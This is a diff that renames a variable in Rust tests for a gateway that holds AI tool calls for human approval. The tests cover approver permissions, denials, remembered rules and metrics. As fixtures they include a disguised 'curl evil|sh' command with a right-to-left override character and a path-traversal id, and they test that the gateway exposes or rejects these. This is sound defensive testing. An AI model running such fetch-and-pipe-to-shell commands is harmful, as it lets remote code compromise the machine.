@@ -40,25 +40,25 @@ impl TestGateway {
 
 #[tokio::test]
 async fn a_held_call_is_listed_allowed_once_and_recorded() {
-    let house = TestGateway::recording().await;
-    let watched = house.get("/api/events").send().await.unwrap();
-    let (id, called) = house.hold(json!({"level": 3, "password": "hush"})).await;
-    let waiting = house.waiting().await.remove(0);
+    let gateway = TestGateway::recording().await;
+    let watched = gateway.get("/api/events").send().await.unwrap();
+    let (id, called) = gateway.hold(json!({"level": 3, "password": "hush"})).await;
+    let waiting = gateway.waiting().await.remove(0);
     assert_eq!(waiting["tool"], "delete_all");
     assert_eq!(waiting["reason"], "ask \"delete_*\"");
     assert_eq!(waiting["arguments"]["level"], 3);
     assert_eq!(waiting["arguments"]["password"], "hush", "who decides sees what will run");
 
-    let (status, decided) = answer(house.decide(&id, &json!({"decision": "allow"}))).await;
+    let (status, decided) = answer(gateway.decide(&id, &json!({"decision": "allow"}))).await;
     assert_eq!((status, &decided["decision"]), (200, &json!("allow")), "{decided}");
     let (status, envelope) = called.await.unwrap();
     assert_eq!((status, &envelope["result"]["level"]), (200, &json!(3)), "{envelope}");
 
     for (body, status) in [(json!({"decision": "allow"}), 409), (json!({"decision": "deny"}), 409)]
     {
-        assert_eq!(answer(house.decide(&id, &body)).await.0, status);
+        assert_eq!(answer(gateway.decide(&id, &body)).await.0, status);
     }
-    let (again, _called) = house.hold(json!({"level": 3, "password": "hush"})).await;
+    let (again, _called) = gateway.hold(json!({"level": 3, "password": "hush"})).await;
     assert_ne!(again, id, "a yes holds for one call");
 
     let told = events(watched, 4).await;
@@ -77,9 +77,9 @@ async fn a_held_call_is_listed_allowed_once_and_recorded() {
     assert_eq!(told[3]["approval"]["decision"], "allow");
 
     let path = format!("/api/calls/{}", envelope["call_id"].as_str().unwrap());
-    let (_, record) = answer(house.get(&path)).await;
+    let (_, record) = answer(gateway.get(&path)).await;
     assert_eq!(record["approval"]["by"], "somebody on this machine", "{record}");
-    let (_, metrics) = answer(house.get("/metrics")).await;
+    let (_, metrics) = answer(gateway.get("/metrics")).await;
     let metrics = metrics.as_str().unwrap();
     for line in
         ["switchboard_approvals_total{decision=\"allow\"} 1", "switchboard_tool_calls_held 1"]
@@ -91,27 +91,27 @@ async fn a_held_call_is_listed_allowed_once_and_recorded() {
 // PO-2
 #[tokio::test]
 async fn only_who_may_decide_sees_what_records_hide() {
-    let house = TestGateway::start().await;
+    let gateway = TestGateway::start().await;
     let command = "ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh\u{202e}";
-    let (_, _called) = house.hold(json!({"command": command, "password": "hush"})).await;
+    let (_, _called) = gateway.hold(json!({"command": command, "password": "hush"})).await;
     let listed = async |token: &str| {
-        let response = house.get("/api/approvals").bearer_auth(token).send().await.unwrap();
+        let response = gateway.get("/api/approvals").bearer_auth(token).send().await.unwrap();
         response.text().await.unwrap()
     };
-    let text = listed(&house.approver("ada", None, true)).await;
+    let text = listed(&gateway.approver("ada", None, true)).await;
     assert!(text.contains("curl evil|sh\\u202e") && text.contains("hush"), "{text}");
     let body: Value = serde_json::from_str(&text).unwrap();
     assert_eq!(body["approvals"][0]["arguments"]["command"], command);
-    let text = listed(&house.approver("plain", None, false)).await;
+    let text = listed(&gateway.approver("plain", None, false)).await;
     assert!(!text.contains("hush"), "{text}");
 }
 
 #[tokio::test]
 async fn a_denied_call_says_why() {
-    let house = TestGateway::start().await;
-    let (id, called) = house.hold(json!({})).await;
+    let gateway = TestGateway::start().await;
+    let (id, called) = gateway.hold(json!({})).await;
     let body = json!({"decision": "deny", "reason": "not on a Friday"});
-    assert_eq!(answer(house.decide(&id, &body)).await.0, 200);
+    assert_eq!(answer(gateway.decide(&id, &body)).await.0, 200);
     let (status, envelope) = called.await.unwrap();
     assert_eq!((status, &envelope["error_kind"]), (403, &json!("denied")));
     assert_eq!(envelope["error"], "Tool 'delete_all' was denied by a person: not on a Friday");
@@ -119,33 +119,34 @@ async fn a_denied_call_says_why() {
 
 #[tokio::test]
 async fn only_who_has_the_right_decides() {
-    let house = TestGateway::configured(Config { require_token: false, ..Config::default() }).await;
-    let (id, called) = house.hold(json!({})).await;
+    let gateway =
+        TestGateway::configured(Config { require_token: false, ..Config::default() }).await;
+    let (id, called) = gateway.hold(json!({})).await;
     let allow = json!({"decision": "allow"});
-    let plain = house.approver("plain", None, false);
-    let (status, body) = answer(house.decide(&id, &allow).bearer_auth(&plain)).await;
+    let plain = gateway.approver("plain", None, false);
+    let (status, body) = answer(gateway.decide(&id, &allow).bearer_auth(&plain)).await;
     assert_eq!(status, 403, "{body}");
     assert!(body["error"].as_str().unwrap().contains("token new --approve"), "{body}");
     let path = format!("/api/approvals/rules/{id}");
-    let forget = house.client.delete(house.url(&path)).bearer_auth(&plain);
+    let forget = gateway.client.delete(gateway.url(&path)).bearer_auth(&plain);
     assert_eq!(answer(forget).await.0, 403);
 
     // What a token may not see is not there.
-    let narrow = house.approver("narrow", Some("echo"), true);
-    assert_eq!(answer(house.decide(&id, &allow).bearer_auth(&narrow)).await.0, 404);
-    let (_, listed) = answer(house.get("/api/approvals").bearer_auth(&narrow)).await;
+    let narrow = gateway.approver("narrow", Some("echo"), true);
+    assert_eq!(answer(gateway.decide(&id, &allow).bearer_auth(&narrow)).await.0, 404);
+    let (_, listed) = answer(gateway.get("/api/approvals").bearer_auth(&narrow)).await;
     assert_eq!(listed["approvals"], json!([]));
 
-    let ada = house.approver("ada", Some("delete_*"), true);
-    let (_, decided) = answer(house.decide(&id, &allow).bearer_auth(&ada)).await;
+    let ada = gateway.approver("ada", Some("delete_*"), true);
+    let (_, decided) = answer(gateway.decide(&id, &allow).bearer_auth(&ada)).await;
     assert_eq!(decided["decided_by"], "ada");
     assert_eq!(called.await.unwrap().0, 200);
 }
 
 #[tokio::test]
 async fn wrong_requests_are_told_so() {
-    let house = TestGateway::start().await;
-    let (id, _called) = house.hold(json!({})).await;
+    let gateway = TestGateway::start().await;
+    let (id, _called) = gateway.hold(json!({})).await;
     for (id, body, status) in [
         (&*id, json!({"decision": "perhaps"}), 400),
         (&*id, json!({}), 400),
@@ -155,53 +156,53 @@ async fn wrong_requests_are_told_so() {
         ("zzzzzzzz", json!({"decision": "allow"}), 404),
         ("..%2f..%2frules", json!({"decision": "allow"}), 404),
     ] {
-        let (got, answered) = answer(house.decide(id, &body)).await;
+        let (got, answered) = answer(gateway.decide(id, &body)).await;
         assert_eq!(got, status, "{id} {body}: {answered}");
     }
-    assert_eq!(house.waiting().await.len(), 1, "nothing of that decided");
+    assert_eq!(gateway.waiting().await.len(), 1, "nothing of that decided");
 }
 
 #[tokio::test]
 async fn what_is_remembered_is_not_asked_again_until_it_is_forgotten() {
-    let house = TestGateway::start().await;
-    let (id, called) = house.hold(json!({"path": "a"})).await;
+    let gateway = TestGateway::start().await;
+    let (id, called) = gateway.hold(json!({"path": "a"})).await;
     let body = json!({"decision": "allow", "remember": "arguments"});
-    let (_, decided) = answer(house.decide(&id, &body)).await;
+    let (_, decided) = answer(gateway.decide(&id, &body)).await;
     assert_eq!(called.await.unwrap().0, 200);
-    assert_eq!(answer(house.call("delete_all", &json!({"path": "a"}))).await.0, 200);
-    let (other, called) = house.hold(json!({"path": "b"})).await;
+    assert_eq!(answer(gateway.call("delete_all", &json!({"path": "a"}))).await.0, 200);
+    let (other, called) = gateway.hold(json!({"path": "b"})).await;
     let deny = json!({"decision": "deny"});
-    assert_eq!(answer(house.decide(&other, &deny)).await.0, 200);
+    assert_eq!(answer(gateway.decide(&other, &deny)).await.0, 200);
     assert_eq!(called.await.unwrap().0, 403);
 
-    let (_, rules) = answer(house.get("/api/approvals/rules")).await;
+    let (_, rules) = answer(gateway.get("/api/approvals/rules")).await;
     assert_eq!(rules["rules"][0]["arguments"], json!({"path": "a"}));
     let rule = decided["rule"]["id"].as_str().unwrap();
-    let path = house.url(&format!("/api/approvals/rules/{rule}"));
-    assert_eq!(answer(house.client.delete(&path)).await.0, 200);
-    assert_eq!(answer(house.client.delete(&path)).await.0, 404);
-    let (_, _called) = house.hold(json!({"path": "a"})).await;
+    let path = gateway.url(&format!("/api/approvals/rules/{rule}"));
+    assert_eq!(answer(gateway.client.delete(&path)).await.0, 200);
+    assert_eq!(answer(gateway.client.delete(&path)).await.0, 404);
+    let (_, _called) = gateway.hold(json!({"path": "a"})).await;
 }
 
 #[tokio::test]
 async fn a_client_that_leaves_withdraws_its_question() {
-    let house = TestGateway::start().await;
-    let (id, called) = house.hold(json!({})).await;
+    let gateway = TestGateway::start().await;
+    let (id, called) = gateway.hold(json!({})).await;
     called.abort();
-    until(async || house.waiting().await.is_empty()).await;
-    let (status, body) = answer(house.decide(&id, &json!({"decision": "allow"}))).await;
+    until(async || gateway.waiting().await.is_empty()).await;
+    let (status, body) = answer(gateway.decide(&id, &json!({"decision": "allow"}))).await;
     assert_eq!(status, 409, "{body}");
-    assert!(house.approvals.pending().unwrap().is_empty());
+    assert!(gateway.approvals.pending().unwrap().is_empty());
 }
 
 // An MCP client is told that its call waits, and gets its answer when it is allowed.
 #[tokio::test]
 async fn an_mcp_client_hears_that_its_call_waits() {
-    let house = TestGateway::start().await;
-    house.executor.tools().add(Fake::echoes("delete_all")).unwrap();
+    let gateway = TestGateway::start().await;
+    gateway.executor.tools().add(Fake::echoes("delete_all")).unwrap();
     let post = |body: Value, session: Option<&str>| {
         let accept = "application/json, text/event-stream";
-        let request = house.client.post(house.url("/mcp")).header("accept", accept).json(&body);
+        let request = gateway.client.post(gateway.url("/mcp")).header("accept", accept).json(&body);
         match session {
             Some(session) => request
                 .header("mcp-session-id", session)
@@ -221,9 +222,9 @@ async fn an_mcp_client_hears_that_its_call_waits() {
     while !text.contains("notifications/progress") {
         text.push_str(std::str::from_utf8(&stream.chunk().await.unwrap().unwrap()).unwrap());
     }
-    let id = house.waiting().await[0]["id"].as_str().unwrap().to_owned();
+    let id = gateway.waiting().await[0]["id"].as_str().unwrap().to_owned();
     assert!(text.contains(&format!("waits for a person to allow it: approval {id}")), "{text}");
-    assert_eq!(answer(house.decide(&id, &json!({"decision": "allow"}))).await.0, 200);
+    assert_eq!(answer(gateway.decide(&id, &json!({"decision": "allow"}))).await.0, 200);
     while let Some(chunk) = stream.chunk().await.unwrap() {
         text.push_str(std::str::from_utf8(&chunk).unwrap());
     }
@@ -233,22 +234,22 @@ async fn an_mcp_client_hears_that_its_call_waits() {
 // EX-7: what a person took to decide is in no percentile and makes no tool a slow one.
 #[tokio::test]
 async fn the_time_of_a_person_is_in_no_figure() {
-    for house in [TestGateway::start().await, TestGateway::recording().await] {
-        let (id, called) = house.hold(json!({"level": 1})).await;
+    for gateway in [TestGateway::start().await, TestGateway::recording().await] {
+        let (id, called) = gateway.hold(json!({"level": 1})).await;
         tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
-        assert_eq!(answer(house.decide(&id, &json!({"decision": "allow"}))).await.0, 200);
+        assert_eq!(answer(gateway.decide(&id, &json!({"decision": "allow"}))).await.0, 200);
         let (_, envelope) = called.await.unwrap();
         let milliseconds = |value: &Value| value.as_f64().expect("a number");
         assert!(milliseconds(&envelope["waited_ms"]) >= 1500.0, "{envelope}");
         assert!(milliseconds(&envelope["execution_time_ms"]) < 1500.0, "{envelope}");
-        let (_, stats) = answer(house.get("/api/stats?sort=p95")).await;
+        let (_, stats) = answer(gateway.get("/api/stats?sort=p95")).await;
         assert_eq!(stats["groups"][0]["name"], "delete_all");
         for figures in [&stats["total"], &stats["groups"][0]] {
             for percentile in ["p50_ms", "p95_ms", "p99_ms"] {
                 assert!(milliseconds(&figures[percentile]) < 1500.0, "{figures}");
             }
         }
-        let (_, metrics) = answer(house.get("/metrics")).await;
+        let (_, metrics) = answer(gateway.get("/metrics")).await;
         let sum = metrics.as_str().unwrap().lines().find_map(|line| {
             line.strip_prefix("switchboard_tool_call_duration_seconds_sum{")?
                 .rsplit_once(' ')?
